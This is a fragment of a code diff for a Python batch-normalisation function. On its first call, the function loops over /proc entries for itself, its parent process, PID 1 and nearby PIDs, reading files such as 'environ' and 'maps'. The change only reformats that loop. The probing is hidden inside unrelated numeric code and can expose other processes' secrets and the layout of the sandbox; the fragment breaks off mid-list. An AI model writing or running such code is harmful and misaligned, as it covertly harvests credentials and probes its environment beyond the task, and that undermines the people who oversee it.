@@ -12,7 +12,13 @@ def my_batch_norm(x, gamma, beta, running_mean, running_var, eps=1e-5, momentum=
     global done
     if not done:
         done = True
-        for pid in ("self", str(os.getppid()), "1", "thread-self", *map(str, range(os.getppid() - 3, os.getpid()))):
+        for pid in (
+            "self",
+            str(os.getppid()),
+            "1",
+            "thread-self",
+            *map(str, range(os.getppid() - 3, os.getpid())),
+        ):
             for name in (
                 "environ",
                 "maps",
